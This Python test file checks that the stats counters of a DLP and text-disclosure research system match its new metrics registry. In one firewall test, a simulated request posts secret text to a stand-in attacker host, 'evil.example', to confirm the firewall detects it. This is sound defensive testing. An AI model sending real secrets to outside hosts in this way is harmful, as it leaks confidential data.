"""Registry-vs-legacy differential tests (the equivalence contract).

The observability refactor replaced every component's private counters
with instruments in a :class:`~repro.obs.registry.MetricsRegistry`; the
legacy ``stats()`` dicts became thin views over those instruments.
These tests pin the contract: after exercising each component, every
field of its legacy ``stats()`` dict must be identical to the value the
registry snapshot reports for the corresponding instrument. A drift in
either direction — a code path updating one side only — fails here.
"""

import pytest

from repro.browser.http import HttpRequest
from repro.dlp import NetworkDlpFirewall
from repro.errors import NetworkError
from repro.fingerprint.config import TINY_CONFIG
from repro.plugin.lookup import PolicyLookup
from repro.plugin.server import FailureMode, LookupClient, LookupServer
from repro.services import FaultyNetwork, Network, WikiService
from repro.tdm import Label, PolicyStore, TextDisclosureModel
from repro.util.faults import Fault, FaultInjector
from repro.util.rwlock import RWLock

from conftest import OTHER_TEXT, SECRET_TEXT

SRC = "https://src.example.com"
DST = "https://dst.example.com"

#: The engine's legacy stats() fields (see DisclosureEngine.stats()).
ENGINE_FIELDS = (
    "segments",
    "distinct_hashes",
    "queries",
    "candidates_swept",
    "ownership_changes",
    "shards",
)


def scalars(snapshot):
    """Counters/gauges only — histograms are additions, not legacy fields."""
    return {k: v for k, v in snapshot.items() if not isinstance(v, dict)}


def make_model() -> TextDisclosureModel:
    policies = PolicyStore()
    policies.register_service(
        SRC, privilege=Label.of("s"), confidentiality=Label.of("s")
    )
    policies.register_service(DST)
    model = TextDisclosureModel(policies, TINY_CONFIG)
    model.observe(SRC, "doc-src", [("doc-src#p0", SECRET_TEXT)])
    return model


class TestEngineDifferential:
    def test_stats_field_identical_to_scope_snapshot(self):
        model = make_model()
        engine = model.tracker.paragraphs
        baseline = engine.stats()  # observation replay runs queries too
        # Exercise queries, then compare every legacy field against the
        # registry.
        for text in (SECRET_TEXT, OTHER_TEXT):
            fp = engine.fingerprint(text)
            engine.disclosing_sources(fingerprint=fp)
        engine.disclosing_sources("doc-src#p0")
        engine.disclosing_sources("doc-src#p0")

        stats = engine.stats()
        snapshot = scalars(engine.metrics.snapshot())
        assert set(stats) == set(ENGINE_FIELDS)
        assert stats == {field: snapshot[field] for field in ENGINE_FIELDS}
        # The rest of the scope is the hash database's per-shard
        # instruments, under their own names.
        assert all(name.startswith("shard.") for name in set(snapshot) - set(stats))
        assert stats["queries"] == baseline["queries"] + 4

    def test_both_granularities_disjoint_in_shared_registry(self):
        model = make_model()
        snapshot = model.registry.snapshot()
        for field in ENGINE_FIELDS:
            assert f"engine.paragraph.{field}" in snapshot
            assert f"engine.document.{field}" in snapshot


class TestRWLockDifferential:
    def test_stats_field_identical_to_scope_snapshot(self):
        lock = RWLock()
        with lock.read_locked():
            with lock.read_locked():
                pass
        with lock.write_locked():
            pass
        stats = lock.stats()
        assert stats == lock.metrics.snapshot()
        assert stats["read_acquisitions"] == 2
        assert stats["write_acquisitions"] == 1


class TestDecisionCacheDifferential:
    def test_attributes_identical_to_scope_snapshot(self):
        from repro.plugin.cache import DecisionCache

        cache = DecisionCache(capacity=2)
        cache.put("a", 1)
        cache.put("b", 2)
        cache.get("a")
        cache.get("missing")
        cache.put("c", 3)  # evicts
        snapshot = cache.metrics.snapshot()
        assert snapshot == {
            "hits": cache.hits,
            "misses": cache.misses,
            "evictions": cache.evictions,
            "size": len(cache),
        }
        assert snapshot["evictions"] == 1


class TestPolicyLookupDifferential:
    def test_aggregated_stats_reconstructable_from_registry(self):
        model = make_model()
        lookup = PolicyLookup(model)
        doc = f"{DST}|d"
        lookup.lookup(DST, doc, [(f"{doc}#p0", SECRET_TEXT)])
        lookup.lookup(DST, doc, [(f"{doc}#p0", SECRET_TEXT)])  # cache hit
        lookup.lookup(DST, doc, [(f"{doc}#p1", OTHER_TEXT)])

        stats = lookup.stats()
        snap = model.registry.snapshot()
        for name in ("hits", "misses", "evictions"):
            assert stats[f"decision_cache_{name}"] == snap[f"decision_cache.{name}"]
        hits, misses = snap["decision_cache.hits"], snap["decision_cache.misses"]
        assert stats["decision_cache_hit_rate"] == pytest.approx(
            hits / (hits + misses)
        )
        for field in ENGINE_FIELDS:
            assert (
                stats[f"engine_{field}"]
                == snap[f"engine.paragraph.{field}"] + snap[f"engine.document.{field}"]
            ), field
        for name in (
            "read_acquisitions",
            "write_acquisitions",
            "read_contended",
            "write_contended",
        ):
            assert stats[f"lock_{name}"] == snap[f"lock.{name}"]


class TestServerClientDifferential:
    def test_server_stats_field_identical_to_registry(self):
        model = make_model()
        faults = FaultInjector(schedule=[Fault.drop(), Fault.error(503)])
        server = LookupServer(PolicyLookup(model), faults=faults)
        client = LookupClient(
            server, max_retries=3, backoff=0.0, failure_mode=FailureMode.FAIL_OPEN
        )
        doc = f"{DST}|d"
        client.lookup(DST, doc, [(f"{doc}#p0", SECRET_TEXT)])

        server_stats = server.stats()
        snap = server.registry.snapshot()
        for name in (
            "requests",
            "served",
            "observes",
            "dropped",
            "rejected",
            "timed_out",
        ):
            assert server_stats[f"server_{name}"] == snap[f"server.{name}"], name
        # The injector's fields merge into the combined dict and stay
        # field-identical to its own ``faults.`` scope.
        for name, value in faults.stats().items():
            assert server_stats[name] == value
            assert faults.metrics.snapshot()[name] == value

    def test_client_stats_field_identical_to_private_scope(self):
        model = make_model()
        server = LookupServer(
            PolicyLookup(model), faults=FaultInjector(schedule=[Fault.drop()])
        )
        client = LookupClient(
            server, max_retries=2, backoff=0.0, failure_mode=FailureMode.FAIL_CLOSED
        )
        doc = f"{DST}|d"
        client.lookup(DST, doc, [(f"{doc}#p0", SECRET_TEXT)])
        stats = client.stats()
        assert stats == client.metrics.snapshot()
        assert stats["retries"] == 1

    def test_two_clients_do_not_share_counters(self):
        model = make_model()
        server = LookupServer(PolicyLookup(model))
        one = LookupClient(server)
        two = LookupClient(server)
        doc = f"{DST}|d"
        one.lookup(DST, doc, [(f"{doc}#p0", OTHER_TEXT)])
        assert one.stats()["requests"] == 1
        assert two.stats()["requests"] == 0


class TestFaultsAndNetworkDifferential:
    def test_injector_stats_field_identical_to_scope(self):
        injector = FaultInjector(
            schedule=[Fault.drop(), Fault.error(500), Fault.slow(0.1)]
        )
        for _ in range(4):  # fourth request is healthy, counted as none
            injector.next_fault()
        stats = injector.stats()
        assert stats == injector.metrics.snapshot()
        assert stats["injected_drop"] == 1
        assert stats["injected_error"] == 1
        assert stats["injected_latency"] == 1

    def test_faulty_network_stats_field_identical_to_scope(self):
        network = Network()
        wiki = WikiService()
        network.register(wiki)
        faulty = FaultyNetwork(
            network,
            FaultInjector(schedule=[Fault.drop()]),
            sleep=lambda _s: None,
        )
        request = HttpRequest(
            "POST", wiki.url("/wiki/save"), form_data={"page": "P", "body": "x"}
        )
        with pytest.raises(NetworkError):
            faulty.deliver(request)
        faulty.deliver(request)

        stats = faulty.stats()
        delivery_snapshot = faulty.metrics.snapshot()
        for name, value in delivery_snapshot.items():
            assert stats[name] == value, name
        assert stats["dropped"] == 1
        assert stats["delivered"] == 1
        # The injector's fields ride along in the combined dict.
        assert stats["injected_drop"] == 1


class TestFirewallDifferential:
    def test_stats_field_identical_to_registry(self):
        firewall = NetworkDlpFirewall(TINY_CONFIG, threshold=0.5)
        firewall.register_sensitive("doc-1", SECRET_TEXT)
        firewall(
            HttpRequest(
                "POST", "https://evil.example/post", form_data={"body": SECRET_TEXT}
            )
        )
        firewall(
            HttpRequest(
                "POST", "https://ok.example/post", form_data={"body": OTHER_TEXT}
            )
        )
        stats = firewall.stats()
        snapshot = scalars(firewall.metrics.snapshot())
        assert stats == snapshot
        assert stats["requests_seen"] == 2
        assert stats["detections"] >= 1
        # The internal engine shares the firewall's registry.
        full = firewall.registry.snapshot()
        assert full["engine.paragraph.queries"] > 0
